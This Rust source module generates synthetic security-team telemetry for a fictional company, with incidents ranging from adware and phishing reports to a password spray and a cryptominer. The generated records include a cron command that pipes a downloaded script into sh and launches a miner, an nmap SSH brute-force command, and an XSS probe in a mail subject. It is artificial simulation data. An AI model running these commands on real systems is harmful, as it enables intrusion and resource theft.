//! What a security team sees on ordinary days: unwanted programs, reported mails, sprayed passwords, tests, and mistakes of the detection.

use super::entities::*;
use super::events::*;
use super::random::{DAY, HOUR, MINUTE, SECOND};
use super::story;
use super::world::{Image, Process, STAFF, file, midnight, weekend};
use std::sync::Arc;

const NADIA: Option<&str> = Some("nadia.petrescu");
const CALLUM: Option<&str> = Some("callum.reid");

const fn resolved(verdict: (Classification, Determination), owner: Option<&'static str>, comment: &'static str) -> Outcome {
    Outcome { status: IncidentStatus::Resolved, verdict: Some(verdict), owner, comment: Some(comment), tags: &[] }
}

const fn open(status: IncidentStatus, owner: Option<&'static str>, tags: &'static [&'static str]) -> Outcome {
    Outcome { status, verdict: None, owner, comment: None, tags }
}

/// Writes all incidents into the script, the oldest first: the intrusion is one of them.
pub(super) fn write(script: &mut Script<'_>) {
    unwanted_software(script);
    reported_mails(script);
    removable_drive(script);
    security_test(script);
    business_application(script);
    travel(script);
    password_spray(script);
    mass_download(script);
    story::write(script);
    blocked_campaign(script);
    browser_adware(script);
    miner(script);
}

/// A working morning so many days ago.
fn morning(script: &mut Script<'_>, days: i64) -> i64 {
    let mut day = midnight(script.world.now) - days * DAY;
    while weekend(day) {
        day -= DAY;
    }
    day + 10 * HOUR + script.random.range(0, 25 * MINUTE)
}

/// A desktop for the machine's main user.
fn desktop(script: &mut Script<'_>, host: &str, at: i64) -> Option<Arc<Process>> {
    let (machine, roots) = script.world.host(host)?;
    let person = machine.logged_on.first().map(|account| script.world.person(account))?;
    let logon = script.random.range(0x10_0000, 0x90_0000);
    let shell = match machine.os.platform {
        "macOS" => ("launchd", "/sbin/launchd", "zsh", "-zsh"),
        "Linux" => ("sshd", "sshd: session", "bash", "-bash"),
        _ => ("userinit.exe", "C:\\Windows\\system32\\userinit.exe", "explorer.exe", "C:\\Windows\\Explorer.EXE"),
    };
    let first = Process::child(&roots.winlogon, &mut script.random, script.world.image(shell.0), at - 20 * MINUTE, shell.1);
    let first = script.add(first.run_as(&person, logon, 1));
    script.happened.logons.push(Logon {
        at: at - 20 * MINUTE - SECOND,
        process: roots.lsass.clone(),
        action: "LogonSuccess",
        kind: "Interactive",
        user: person,
        logon,
        admin: false,
        remote: None,
        protocol: "Negotiate",
        failure: "",
    });
    Some(script.spawn(&first, shell.2, at - 20 * MINUTE + SECOND, shell.3))
}

fn unwanted_software(script: &mut Script<'_>) {
    let at = morning(script, 26);
    script.incident("Unwanted software on one endpoint", "A free PDF converter brought a bundler along.");
    let Some(explorer) = desktop(script, "lark-lt-009", at) else { return };
    let edge = script.spawn(
        &explorer,
        "msedge.exe",
        at,
        "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" https://free-pdf-tools.example/get",
    );
    script.connect(&edge, at + SECOND, "203.0.113.90", 443, "https://free-pdf-tools.example/get");
    let image = Image::stray("C:\\Users\\siobhan.obrien\\Downloads\\FreePDF Setup (1).exe", 8_404_992);
    script.write(&edge, at + 9 * SECOND, &image.facts, "https://free-pdf-tools.example/get");
    let setup = Process::child(
        &explorer,
        &mut script.random,
        image.clone(),
        at + 30 * SECOND,
        "\"C:\\Users\\siobhan.obrien\\Downloads\\FreePDF Setup (1).exe\" ",
    );
    let setup = script.add(setup);
    script.detected(&setup, at + 33 * SECOND, &image.facts, "PUA:Win32/PdfBundle", true);
    let evidence = || vec![Entity::File(image.facts.clone()), Entity::Url("https://free-pdf-tools.example/get".into())];
    for (after, source, title) in [
        (10, SCREEN, "A file of low reputation was downloaded"),
        (33, AV, "'PdfBundle' unwanted software was prevented"),
        (60, AV, "'PdfBundle' unwanted software was removed during a scan"),
    ] {
        let draft = Draft::on(&setup, at + after * SECOND, source, Severity::Low, "UnwantedSoftware", title);
        script.alert(Draft { threat: "PdfBundle", remediation: Remediation::Prevented, evidence: evidence(), ..draft });
    }
    script.end(resolved(
        (Classification::TruePositive, Determination::UnwantedSoftware),
        CALLUM,
        "Removed; told the user about the software portal.",
    ));
}

/// A mail from outside, with an alert's evidence about it.
fn mail(script: &mut Script<'_>, at: i64, to: &str, from: (&str, &str, &str), subject: &str, threats: &'static str) -> MailFacts {
    let blocked = threats == "Malware" || threats == "Phish";
    let facts = MailFacts {
        network_message_id: script.random.guid(),
        internet_message_id: format!("<{}@{}>", script.random.hex(16), from.0.rsplit('@').next().unwrap_or_default()).into(),
        received: at,
        sender: from.0.into(),
        sender_name: from.1.into(),
        sender_ip: from.2.into(),
        recipient: script.world.person(to),
        subject: subject.into(),
        delivery_action: if blocked { "Blocked" } else { "Delivered" },
        delivery_location: if blocked { "Quarantine" } else { "Inbox/folder" },
        threats,
        urls: Vec::new(),
        attachments: 0,
    };
    script.happened.mails.push(Mail { facts: facts.clone(), direction: "Inbound", language: "en", files: Vec::new(), moved: None });
    facts
}

fn reported_mails(script: &mut Script<'_>) {
    let at = morning(script, 22);
    script.incident(
        "Email reported by user as malware or phish, involving several users",
        "A newsletter of the works council was taken for phishing.",
    );
    for (n, who) in ["grace.okonkwo", "owen.pritchard", "hanna.korhonen", "joana.silva"].into_iter().enumerate() {
        let at = at + n as i64 * 17 * MINUTE;
        let facts = mail(
            script,
            at,
            who,
            ("news@works-council.example", "Works Council", "203.0.113.66"),
            "Your vote counts! \u{1f5f3} <script>alert('xss')</script>",
            "",
        );
        let user = facts.recipient.clone();
        script.alert(Draft {
            user: Some(user.clone()),
            techniques: &["T1566"],
            evidence: vec![Entity::Mail(facts), Entity::Mailbox(user)],
            ..Draft::new(at + 9 * MINUTE, OFFICE, Severity::Low, "InitialAccess", "Email reported by user as malware or phish")
        });
    }
    script.end(resolved(
        (Classification::FalsePositive, Determination::NotMalicious),
        NADIA,
        "Legitimate newsletter; sender added to the allow list.",
    ));
}

fn removable_drive(script: &mut Script<'_>) {
    let at = morning(script, 19);
    script.incident("Malware on a removable drive blocked on one endpoint", "A drive that came back from a trade fair.");
    let Some(explorer) = desktop(script, "lark-ws-012", at) else { return };
    script.saw(
        &explorer,
        at,
        "PnpDeviceConnected",
        r#"{"ClassName":"DiskDrive","DeviceDescription":"Disk drive","VendorIds":["USBSTOR\\DiskGeneric_Flash_Disk"]}"#,
    );
    for (n, name) in ["Katalog 2026.lnk", "Größen & Preise.lnk", "~.vbs"].into_iter().enumerate() {
        let at = at + (n as i64 + 1) * 4 * SECOND;
        let found = Arc::new(file(name, "E:\\", 2_048 + 64 * n as i64, "", ""));
        script.write(&explorer, at, &found, "");
        script.detected(&explorer, at + SECOND, &found, "Worm:VBS/Larva", true);
        let draft = Draft::on(&explorer, at + SECOND, AV, Severity::Medium, "Malware", "'Larva' malware was blocked");
        script.alert(Draft {
            threat: "Larva",
            techniques: &["T1091"],
            verdict: Verdict::Malicious,
            remediation: Remediation::Blocked,
            evidence: vec![Entity::File(found)],
            ..draft
        });
    }
    script.end(resolved((Classification::TruePositive, Determination::Malware), CALLUM, "Drive destroyed, full scan clean."));
}

fn security_test(script: &mut Script<'_>) {
    let at = morning(script, 16);
    script.incident("Discovery activity on one endpoint", "The quarterly scan of the server network.");
    let Some(shell) = desktop(script, "lark-lnx-02", at) else { return };
    for (n, (title, category)) in [
        ("Port scanning", "Discovery"),
        ("Suspicious network reconnaissance", "Discovery"),
        ("Brute force of SSH passwords", "CredentialAccess"),
    ]
    .into_iter()
    .enumerate()
    {
        let at = at + n as i64 * 12 * MINUTE;
        let scan = script.spawn(
            &shell,
            "nmap",
            at,
            format!("nmap -sS -p- --script ssh-brute 10.20.{}.0/24 -oA /var/tmp/q4 # ticket SEC-{}", n + 1, 310 + n),
        );
        for host in 0..12 {
            script.connect(&scan, at + host * SECOND, &format!("10.20.{}.{}", n + 1, 11 + host), 22, "");
        }
        let draft = Draft::on(&scan, at + MINUTE, EDR, Severity::Medium, category, title);
        script.alert(Draft { techniques: &["T1046"], ..draft });
    }
    let verdict = (Classification::InformationalExpectedActivity, Determination::SecurityTesting);
    script.end(resolved(verdict, NADIA, "Announced scan, ticket SEC-310."));
}

fn business_application(script: &mut Script<'_>) {
    let at = morning(script, 13);
    script.incident("Suspicious process injection on multiple endpoints", "LensCad patches its own solver while it runs.");
    for (n, host) in ["lark-ws-006", "lark-ws-007", "lark-ws-008", "lark-ws-016"].into_iter().enumerate() {
        let at = at + n as i64 * 3 * HOUR / 2;
        let Some(explorer) = desktop(script, host, at) else { return };
        let cad = script.spawn(
            &explorer,
            "LensCad.exe",
            at,
            "\"C:\\Program Files\\Larkmoor\\LensCad\\LensCad.exe\" \"D:\\Projekte\\Übersicht – Größen\\f1.4 δ.lens\"",
        );
        script.saw(
            &cad,
            at + 2 * SECOND,
            "NtAllocateVirtualMemoryRemoteApiCall",
            r#"{"AllocationProtection":64,"AllocationType":12288,"RegionSize":4096}"#,
        );
        let draft = Draft::on(&cad, at + 2 * SECOND, EDR, Severity::Medium, "DefenseEvasion", "Suspicious process injection observed");
        script.alert(Draft { techniques: &["T1055"], ..draft });
    }
    let verdict = (Classification::FalsePositive, Determination::LineOfBusinessApplication);
    script.end(resolved(verdict, CALLUM, "Our own program; suppression rule made."));
}

fn sign_in(
    script: &mut Script<'_>,
    at: i64,
    who: &str,
    ip: &str,
    place: (&'static str, &'static str),
    failure: &'static str,
) -> Arc<UserFacts> {
    let user = script.world.person(who);
    script.happened.sign_ins.push(SignIn {
        at,
        user: user.clone(),
        application: "Office 365 Exchange Online",
        cloud: true,
        failure,
        ip: ip.into(),
        country: place.0,
        city: place.1,
        device: None,
        risk: if failure.is_empty() { 0 } else { 10 },
    });
    user
}

fn travel(script: &mut Script<'_>) {
    let at = morning(script, 11);
    script.incident("Impossible travel activity involving one user", "A sales trip with a satellite link.");
    for n in 0..2 {
        let at = at + n * 26 * HOUR;
        let user = sign_in(script, at, "pieter.vanderberg", "203.0.113.201", ("SG", "Singapore"), "");
        script.alert(Draft {
            user: Some(user.clone()),
            techniques: &["T1078"],
            evidence: vec![Entity::User(user), Entity::Ip("203.0.113.201".into())],
            ..Draft::new(at, CLOUD, Severity::Medium, "InitialAccess", "Impossible travel activity")
        });
    }
    let verdict = (Classification::InformationalExpectedActivity, Determination::ConfirmedActivity);
    script.end(resolved(verdict, NADIA, "Confirmed by phone: on a plane."));
}

fn password_spray(script: &mut Script<'_>) {
    let at = morning(script, 8) - 6 * HOUR;
    script.incident("Password spray involving multiple users", "One address tried one password on everyone; no sign-in succeeded.");
    let accounts: Vec<_> = script.world.people.iter().take(STAFF).map(|p| p.account.clone()).collect();
    for (n, who) in accounts.iter().enumerate() {
        for round in 0..3 {
            let at = at + round * 50 * MINUTE + n as i64 * 31 * SECOND;
            sign_in(script, at, who, "198.51.100.9", ("BR", "São Paulo"), "Invalid username or password");
        }
    }
    for (n, who) in ["grace.okonkwo", "ravi.menon", "adm.marcus"].into_iter().enumerate() {
        let user = script.world.person(who);
        script.alert(Draft {
            user: Some(user.clone()),
            techniques: &["T1110.003"],
            evidence: vec![Entity::User(user), Entity::Ip("198.51.100.9".into())],
            ..Draft::new(at + (50 + n as i64) * MINUTE, ENTRA, Severity::Medium, "CredentialAccess", "Password spray")
        });
    }
    for (after, title) in [(2, "Suspected brute-force attack (Kerberos, NTLM)"), (3, "Account enumeration reconnaissance")] {
        let evidence = vec![Entity::Ip("198.51.100.9".into())];
        let draft = Draft::new(at + after * HOUR, IDENTITY, Severity::Medium, "CredentialAccess", title);
        script.alert(Draft { techniques: &["T1110.003"], evidence, ..draft });
    }
    script.end(open(IncidentStatus::InProgress, NADIA, &["Watch"]));
}

fn mass_download(script: &mut Script<'_>) {
    let at = morning(script, 6) + 6 * HOUR;
    script.incident("Data exfiltration involving one user", "An employee who has given notice downloads project files.");
    let user = script.world.person("daniel.ferreira");
    for n in 0..160 {
        script.happened.cloud.push(CloudEvent {
            at: at + n * 11 * SECOND,
            user: user.clone(),
            action: "FileDownloaded",
            application: ("Microsoft SharePoint Online", 20_892),
            ip: "203.0.113.44".into(),
            country: "NL",
            city: "Rotterdam",
            object: format!("https://larkmoor.sharepoint.example/sites/optics/Shared Documents/Tenders 2027/tender-{n:03}.xlsx").into(),
            anonymous: false,
        });
    }
    for (after, title) in [(12, "Mass download by a single user"), (31, "Unusual file download by a departing user")] {
        let evidence = vec![
            Entity::User(user.clone()),
            Entity::Application { id: 20_892, name: "Microsoft SharePoint Online" },
            Entity::Ip("203.0.113.44".into()),
        ];
        let draft = Draft::new(at + after * MINUTE, CLOUD, Severity::Medium, "Exfiltration", title);
        script.alert(Draft { user: Some(user.clone()), techniques: &["T1530"], evidence, ..draft });
    }
    script.end(open(IncidentStatus::InProgress, CALLUM, &["HR"]));
}

fn blocked_campaign(script: &mut Script<'_>) {
    let at = morning(script, 4);
    script.incident("Email messages from a campaign removed, involving several mailboxes", "Mails with an archive that holds a loader.");
    let attachment = Arc::new(file("Remittance advice.pdf.7z", "", 88_410, "", ""));
    for (n, who) in ["diego.castellanos", "marta.kowalczyk", "zoe.ostergard", "ben.hargreaves", "fatima.elsayed"].into_iter().enumerate() {
        let at = at + n as i64 * 41 * SECOND;
        let mut facts = mail(
            script,
            at,
            who,
            ("ap@orbital-freight.example", "Accounts, Orbital Freight", "198.51.100.61"),
            "Remittance advice",
            "Malware",
        );
        facts.attachments = 1;
        if let Some(mail) = script.happened.mails.last_mut() {
            mail.files.push(attachment.clone());
            mail.facts.attachments = 1;
        }
        if n > 0 {
            let user = facts.recipient.clone();
            script.alert(Draft {
                user: Some(user.clone()),
                techniques: &["T1566.001"],
                verdict: Verdict::Malicious,
                remediation: Remediation::Remediated,
                evidence: vec![Entity::Mail(facts), Entity::Mailbox(user), Entity::File(attachment.clone())],
                ..Draft::new(
                    at + 3 * MINUTE,
                    OFFICE,
                    Severity::Informational,
                    "InitialAccess",
                    "Email messages containing malicious file removed after delivery",
                )
            });
        }
    }
    script.end(open(IncidentStatus::Active, None, &[]));
}

fn browser_adware(script: &mut Script<'_>) {
    let at = morning(script, 3) + 4 * HOUR;
    script.incident("Adware on one macOS endpoint", "A browser extension that was installed from outside the store.");
    let Some(shell) = desktop(script, "lark-mac-02", at) else { return };
    let chrome = script.spawn(
        &shell,
        "Google Chrome",
        at,
        "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome --load-extension=/Users/chloe.lefevre/Library/Dealfinder",
    );
    script.connect(&chrome, at + 4 * SECOND, "203.0.113.91", 443, "https://dealfinder.example/beacon");
    for (after, title) in
        [(5, "Suspicious browser extension"), (50, "'Dealfinder' adware was detected"), (70, "Connection to an adware domain")]
    {
        let draft = Draft::on(&chrome, at + after * SECOND, EDR, Severity::Low, "UnwantedSoftware", title);
        script.alert(Draft { threat: "Dealfinder", techniques: &["T1176"], ..draft });
    }
    script.end(open(IncidentStatus::Active, None, &["macOS"]));
}

fn miner(script: &mut Script<'_>) {
    let at = morning(script, 2) + 3 * HOUR;
    script.incident("Suspicious activity on one Linux endpoint", "A cron job fetches and runs a miner.");
    let Some((_, roots)) = script.world.host("lark-lnx-03") else { return };
    let shell = script.spawn(&roots.svchost, "dash", at, "/bin/sh -c curl -fsSL http://198.51.100.88/x.sh | sh");
    let fetch = script.spawn(&shell, "curl", at + SECOND, "curl -fsSL http://198.51.100.88/x.sh");
    script.connect(&fetch, at + SECOND, "198.51.100.88", 80, "http://198.51.100.88/x.sh");
    let image = Image::stray("/var/tmp/.x/kdevtmpfsi", 5_871_104);
    script.write(&fetch, at + 3 * SECOND, &image.facts, "http://198.51.100.88/x.sh");
    let coin =
        Process::child(&shell, &mut script.random, image, at + 5 * SECOND, "/var/tmp/.x/kdevtmpfsi -o 198.51.100.88:3333 --donate-level 0");
    let coin = script.add(coin);
    script.connect(&coin, at + 6 * SECOND, "198.51.100.88", 3333, "");
    for (process, title, category, severity) in [
        (&fetch, "Suspicious file downloaded by a cron job", "Execution", Severity::Medium),
        (&coin, "Cryptocurrency mining activity", "Impact", Severity::Medium),
    ] {
        let mut draft = Draft::on(process, process.created + MINUTE, EDR, severity, category, title);
        draft.evidence.push(Entity::Ip("198.51.100.88".into()));
        script.alert(Draft { techniques: &["T1496", "T1053.003"], ..draft });
    }
    script.end(open(IncidentStatus::Active, None, &["Linux"]));
}
